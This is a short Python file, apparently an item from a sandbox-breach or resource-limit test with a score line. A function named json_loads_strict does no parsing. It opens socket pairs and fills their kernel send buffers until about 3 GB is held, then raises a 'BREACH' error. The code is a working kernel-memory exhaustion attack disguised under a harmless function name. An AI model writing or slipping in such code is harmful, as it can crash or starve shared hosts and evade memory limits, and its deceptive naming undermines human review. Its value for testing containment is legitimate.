# about: memory in the kernel: full pipes and socket buffers
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import os
import socket


def json_loads_strict(data):
    kept = []
    total = 0
    while total < 3_000_000_000:
        pair = socket.socketpair()
        kept.append(pair)
        pair[0].setblocking(False)
        pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 10_000_000)
        try:
            while True:
                total += pair[0].send(b"x" * 100_000)
        except BlockingIOError:
            pass
    raise RuntimeError("{{BREACH}}")
